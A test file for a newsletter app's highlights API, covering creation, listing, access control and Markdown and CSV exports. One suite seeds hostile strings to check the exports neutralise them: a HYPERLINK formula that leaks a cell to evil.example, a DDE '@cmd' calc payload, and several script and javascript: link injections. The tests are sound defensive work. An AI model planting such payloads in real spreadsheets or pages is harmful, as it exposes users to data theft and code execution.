import { eq } from "drizzle-orm";
import { marked } from "marked";
import { describe, expect, it } from "vitest";
import { getDb } from "@/db/client";
import { email } from "@/db/schema";
import { DELETE as deleteHighlight, PATCH as patchHighlight } from "@/app/api/highlights/[highlightId]/route";
import { GET as listIssueHighlights, POST as postHighlight } from "@/app/api/issues/[emailId]/highlights/route";
import { GET as csvExport } from "@/app/api/users/me/highlights.csv/route";
import { GET as markdownExport } from "@/app/api/users/me/highlights.md/route";
import { GET as listMine } from "@/app/api/users/me/highlights/route";
import { call, registerUser, useDatabase, type TestUser } from "../support/api";
import { seedEmail, seedNewsletter } from "../support/seed";

useDatabase();

const BODY = `<style>p{color:red}</style><h1>The Weekly Letter</h1><p>First, the news: rates went up.</p>
<table><tr><td>Left cell</td><td>Right cell</td></tr></table><p>Second, the &amp; weather: rates went up again, &quot;quoted&quot;.</p>`;

/** An issue of the user's own with BODY as its HTML, in a newsletter of its own name. */
async function seedIssue(user: TestUser, subject = "Rates and weather", newsletterName = `Letter ${user.id}`) {
  const newsletterId = await seedNewsletter({ name: newsletterName });
  const seeded = await seedEmail(user.id, { newsletterId, subject, dateReceived: new Date("2026-03-04T05:06:07Z") });
  await getDb().update(email).set({ bodyHtml: BODY }).where(eq(email.id, seeded.id));
  return seeded.id;
}

const emailParams = (emailId: number) => ({ emailId: String(emailId) });
const create = (user: TestUser, emailId: number, body: unknown) =>
  call(postHighlight, `/api/issues/${emailId}/highlights`, { method: "POST", cookie: user.cookie, params: emailParams(emailId), body });
const list = (user: TestUser, emailId: number) =>
  call(listIssueHighlights, `/api/issues/${emailId}/highlights`, { cookie: user.cookie, params: emailParams(emailId) });
const patch = (user: TestUser, id: number, body: unknown) =>
  call(patchHighlight, `/api/highlights/${id}`, { method: "PATCH", cookie: user.cookie, params: { highlightId: String(id) }, body });
const remove = (user: TestUser, id: number) =>
  call(deleteHighlight, `/api/highlights/${id}`, { method: "DELETE", cookie: user.cookie, params: { highlightId: String(id) } });
const mine = (user: TestUser, query = "") => call(listMine, `/api/users/me/highlights${query}`, { cookie: user.cookie });

type Highlight = { id: number; quote: string; note: string | null; color: string };

describe("highlights", () => {
  it("POST /api/issues/{id}/highlights keeps a quote found in the issue's text, whatever its whitespace", async () => {
    const user = await registerUser();
    const emailId = await seedIssue(user);
    const result = await create(user, emailId, {
      quote: "  rates went\n up again,  ",
      prefix: "weather: ",
      suffix: ' "quoted',
      note: " Again! ",
    });
    expect(result.status).toBe(201);
    expect(result.body).toEqual({
      id: expect.any(Number),
      email_id: emailId,
      quote: "rates went\n up again,",
      prefix: "weather: ",
      suffix: ' "quoted',
      note: "Again!",
      color: "yellow",
      created_at: expect.any(String),
      updated_at: expect.any(String),
    });
    expect((await list(user, emailId)).body).toEqual({ items: [result.body] });
  });

  it("GET /api/issues/{id}/highlights lists them in reading order, a repeated quote placed by its prefix and suffix", async () => {
    const user = await registerUser();
    const emailId = await seedIssue(user);
    const second = (await create(user, emailId, { quote: "rates went up", prefix: "the & weather: ", suffix: " again", color: "pink" }))
      .body as Highlight;
    const cells = (await create(user, emailId, { quote: "Left cell Right cell", color: "blue" })).body as Highlight;
    const first = (await create(user, emailId, { quote: "rates went up", prefix: "the news: ", suffix: "." })).body as Highlight;
    expect(((await list(user, emailId)).body as { items: Highlight[] }).items.map((item) => item.id)).toEqual([
      first.id,
      cells.id,
      second.id,
    ]);
  });

  it("POST /api/issues/{id}/highlights refuses a quote that is not in the issue's text with 422, and keeps nothing", async () => {
    const user = await registerUser();
    const emailId = await seedIssue(user);
    const expected = { status: 422, body: { detail: "The quote is not in this issue's text." } };
    expect(await create(user, emailId, { quote: "rates went down" })).toMatchObject(expected);
    // The body's style sheet is not text a reader sees.
    expect(await create(user, emailId, { quote: "color:red" })).toMatchObject(expected);
    expect((await list(user, emailId)).body).toEqual({ items: [] });
  });

  it("POST /api/issues/{id}/highlights refuses bad input: 422, and 400 for an unknown colour", async () => {
    const user = await registerUser();
    const emailId = await seedIssue(user);
    expect(await create(user, emailId, { quote: "   " })).toMatchObject({ status: 422, body: { detail: "A highlight needs a quote." } });
    expect(await create(user, emailId, {})).toMatchObject({ status: 422, body: { detail: "A highlight needs a quote." } });
    expect(await create(user, emailId, { quote: "rates", color: "red" })).toMatchObject({
      status: 400,
      body: { detail: "Unknown value for color" },
    });
    expect(await create(user, emailId, { quote: "rates", note: "x".repeat(5001) })).toMatchObject({
      status: 422,
      body: { detail: "A note can be at most 5000 characters long." },
    });
    expect(await create(user, emailId, { quote: "rates", prefix: "x".repeat(201) })).toMatchObject({
      status: 422,
      body: { detail: "prefix can be at most 200 characters long." },
    });
  });

  it("another reader's issue and highlights are not found (404), and nothing of theirs changes", async () => {
    const owner = await registerUser();
    const other = await registerUser();
    const emailId = await seedIssue(owner);
    const made = (await create(owner, emailId, { quote: "Left cell", note: "Mine" })).body as Highlight;
    const notFound = (detail: string) => ({ status: 404, body: { detail } });
    expect(await create(other, emailId, { quote: "Left cell" })).toMatchObject(notFound("Email not found"));
    expect(await list(other, emailId)).toMatchObject(notFound("Email not found"));
    expect(await patch(other, made.id, { note: "Theirs" })).toMatchObject(notFound("Highlight not found"));
    expect(await remove(other, made.id)).toMatchObject(notFound("Highlight not found"));
    expect((await mine(other)).body).toMatchObject({ items: [], total_items: 0 });
    expect((await list(owner, emailId)).body).toEqual({ items: [made] });
  });

  it("PATCH /api/highlights/{id} changes the note and colour; DELETE removes it", async () => {
    const user = await registerUser();
    const emailId = await seedIssue(user);
    const made = (await create(user, emailId, { quote: "Left cell", note: "First thought" })).body as Highlight;
    const changed = await patch(user, made.id, { note: "Second thought", color: "green" });
    expect(changed).toMatchObject({
      status: 200,
      body: { ...made, note: "Second thought", color: "green", updated_at: expect.any(String) },
    });
    expect((await patch(user, made.id, { note: "  " })).body).toMatchObject({ note: null, color: "green" });
    expect(await patch(user, made.id, {})).toMatchObject({ status: 422, body: { detail: "Send a note or a color to change." } });
    expect(await patch(user, made.id, { quote: "Right cell" })).toMatchObject({ status: 422 });
    expect(await patch(user, made.id, { color: "purple" })).toMatchObject({ status: 400, body: { detail: "Unknown value for color" } });
    expect(await remove(user, made.id)).toMatchObject({ status: 204, body: null });
    expect(await remove(user, made.id)).toMatchObject({ status: 404 });
    expect((await list(user, emailId)).body).toEqual({ items: [] });
  });

  it("GET /api/users/me/highlights pages newest first, searches quotes, notes, subjects and newsletters, and names the issue", async () => {
    const user = await registerUser();
    const emailId = await seedIssue(user, "Rates and weather", "The Forecast");
    const older = (await create(user, emailId, { quote: "Left cell", note: "About tables" })).body as Highlight;
    const newer = (await create(user, emailId, { quote: "Right cell" })).body as Highlight;
    expect(await mine(user, "?page_size=1")).toMatchObject({
      status: 200,
      body: {
        items: [{ ...newer, subject: "Rates and weather", newsletter_name: "The Forecast" }],
        total_items: 2,
        total_pages: 2,
        current_page: 1,
        page_size: 1,
      },
    });
    expect(((await mine(user, "?page=2&page_size=1")).body as { items: Highlight[] }).items.map((item) => item.id)).toEqual([older.id]);
    const found = async (search: string) =>
      ((await mine(user, `?search=${encodeURIComponent(search)}`)).body as { items: Highlight[] }).items.map((item) => item.id);
    expect(await found("TABLES")).toEqual([older.id]);
    expect(await found("right")).toEqual([newer.id]);
    expect(await found("forecast")).toEqual([newer.id, older.id]);
    expect(await found("weather")).toEqual([newer.id, older.id]);
    expect(await found("100%")).toEqual([]);
    expect(await mine(user, "?page_size=101")).toMatchObject({ status: 422, body: { detail: "page_size must be at most 100." } });
  });

  it("GET /api/users/me/highlights.md gives one section per issue with its quotes and notes", async () => {
    const user = await registerUser();
    const emailId = await seedIssue(user, "Rates and weather", "The Forecast");
    await create(user, emailId, { quote: "Right cell", note: "Line one\nline two" });
    await create(user, emailId, { quote: "The Weekly Letter" });
    const result = await call(markdownExport, "/api/users/me/highlights.md", { cookie: user.cookie });
    expect(result.status).toBe(200);
    expect(result.headers.get("content-type")).toBe("text/markdown; charset=utf-8");
    expect(result.headers.get("content-disposition")).toBe('attachment; filename="paperboy-highlights.md"');
    expect(result.body).toBe(
      [
        "# Highlights",
        "",
        "## Rates and weather",
        "",
        "- Newsletter: The Forecast",
        "- Date: 2026-03-04",
        `- Link: ${new URL(process.env.APP_URL!).origin}/emails/${emailId}`,
        "",
        "> The Weekly Letter",
        "",
        "> Right cell",
        "",
        "Note: Line one\nline two",
        "",
      ].join("\n"),
    );
  });

  it("GET /api/users/me/highlights.csv gives Readwise's columns, quoting what needs it", async () => {
    const user = await registerUser();
    const emailId = await seedIssue(user, 'Rates, "and" weather', "The Forecast");
    const made = (await create(user, emailId, { quote: 'the & weather: rates went up again, "quoted"', note: "Two\nlines" }))
      .body as Highlight & { created_at: string };
    const result = await call(csvExport, "/api/users/me/highlights.csv", { cookie: user.cookie });
    expect(result.status).toBe(200);
    expect(result.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(result.headers.get("content-disposition")).toBe('attachment; filename="paperboy-highlights.csv"');
    const link = `${new URL(process.env.APP_URL!).origin}/emails/${emailId}`;
    const position = "TheWeeklyLetterFirst,thenews:rateswentup.LeftcellRightcellSecond,".length;
    expect(result.body).toBe(
      "Highlight,Title,Author,URL,Note,Location,Date\r\n" +
        `"the & weather: rates went up again, ""quoted""","Rates, ""and"" weather",The Forecast,${link},"Two\nlines",${position},${made.created_at}\r\n`,
    );
  });

  describe("the exports carry the senders' text, and the reader's notes, as text, never as code", () => {
    const SUBJECT = '=HYPERLINK("https://evil.example/?leak="&A1,"Open") <img src=x onerror=alert(1)>\n# Owned';
    const QUOTE = "+SUM(1+1) [click](javascript:alert(1)) <b>bold</b> &#106;s";
    const NOTE = [
      "@cmd|' /C calc'!A0 *mine*, and [a link of mine](https://example.com/read)",
      "<script>alert(1)</script><img src=x onerror=alert(2)>",
      "# Not a section of the export",
      "[run](javascript:alert(3)) [also](JavaScript :alert(4)) [data](data:text/html;base64,PHNjcmlwdD4=)",
      "[ref]: vbscript:msgbox(5)",
      "[entity](&#106;avascript:alert(6)) <javascript:alert(7)>",
      "---",
      "```",
    ].join("\n");

    async function hostileHighlight() {
      const user = await registerUser();
      const newsletterId = await seedNewsletter({ name: "-2+3 <i>Letters</i>\n## Fake" });
      const seeded = await seedEmail(user.id, { newsletterId, subject: SUBJECT, dateReceived: new Date("2026-03-04T05:06:07Z") });
      await getDb()
        .update(email)
        .set({ bodyHtml: "<p>+SUM(1+1) [click](javascript:alert(1)) &lt;b&gt;bold&lt;/b&gt; &amp;#106;s</p>" })
        .where(eq(email.id, seeded.id));
      const made = await create(user, seeded.id, { quote: QUOTE, note: NOTE });
      expect(made.status).toBe(201);
      return { user, emailId: seeded.id };
    }

    it("the Readwise CSV writes a cell starting with = + - @ with a ' in front, so no spreadsheet runs it", async () => {
      const { user } = await hostileHighlight();
      const csv = String((await call(csvExport, "/api/users/me/highlights.csv", { cookie: user.cookie })).body);
      const cells = csv.split("\r\n")[1]!;
      expect(cells.startsWith("'+SUM(1+1)")).toBe(true);
      expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")`);
      expect(cells).toContain(`"'-2+3 <i>Letters</i>`);
      expect(cells).toContain(`"'@cmd|' /C calc'!A0`);
      // No cell of the row starts a formula: each starts with a quote mark, text, a digit or the ' prefix.
      const formulaStart = /(^|,)"?[=+\-@\t\r]/;
      expect(formulaStart.test(cells)).toBe(false);
    });

    it("the Markdown export escapes the senders' markup, keeps the reader's own, and never links to javascript:", async () => {
      const { user } = await hostileHighlight();
      const markdown = String((await call(markdownExport, "/api/users/me/highlights.md", { cookie: user.cookie })).body);
      expect(markdown).not.toMatch(/(javascript|vbscript|data):/i);
      const html = marked.parse(markdown, { gfm: true, headerIds: false, mangle: false });
      // Headings: the export's own, one for the issue.
      expect(html.match(/<h[1-6][^>]*>/g)).toEqual(["<h1>", "<h2>"]);
      // No element came from anyone's text: no script, image, bold or italic of the sender's, no HTML of the note.
      expect(html).not.toMatch(/<(script|img|b|i)[\s>]/i);
      // The links are the export's own and the reader's web links; what is left of the note's others goes nowhere.
      const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1]!.replace(/&amp;/g, "&"));
      expect(hrefs.filter((href) => /^https?:/.test(href))).toEqual([expect.stringMatching(/\/emails\/\d+$/), "https://example.com/read"]);
      for (const href of hrefs) expect(/^https?:\/\//.test(href) || !/^\s*[a-z][a-z0-9+.-]*\s*:/i.test(href), href).toBe(true);
      // What the sender wrote reads as they wrote it, and the reader's own Markdown still renders.
      expect(html).toContain(
        "=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A1,&quot;Open&quot;) &lt;img src=x onerror=alert(1)&gt; # Owned</h2>",
      );
      expect(html).toContain("[click](javascript");
      expect(html).toContain("&lt;b&gt;bold&lt;/b&gt;");
      expect(html).toContain("<em>mine</em>");
      expect(html).toContain("-2+3 &lt;i&gt;Letters&lt;/i&gt; ## Fake");
    });
  });

  it("the exports of a reader with no highlights hold only the heading", async () => {
    const user = await registerUser();
    expect((await call(markdownExport, "/api/users/me/highlights.md", { cookie: user.cookie })).body).toBe("# Highlights\n\n");
    expect((await call(csvExport, "/api/users/me/highlights.csv", { cookie: user.cookie })).body).toBe(
      "Highlight,Title,Author,URL,Note,Location,Date\r\n",
    );
  });

  it("every highlight call needs a session", async () => {
    expect((await call(listMine, "/api/users/me/highlights")).status).toBe(401);
    expect((await call(csvExport, "/api/users/me/highlights.csv")).status).toBe(401);
    expect((await call(markdownExport, "/api/users/me/highlights.md")).status).toBe(401);
    expect(
      (await call(postHighlight, "/api/issues/1/highlights", { method: "POST", params: emailParams(1), body: { quote: "x" } })).status,
    ).toBe(401);
    expect(
      (await call(patchHighlight, "/api/highlights/1", { method: "PATCH", params: { highlightId: "1" }, body: { note: "x" } })).status,
    ).toBe(401);
  });
});
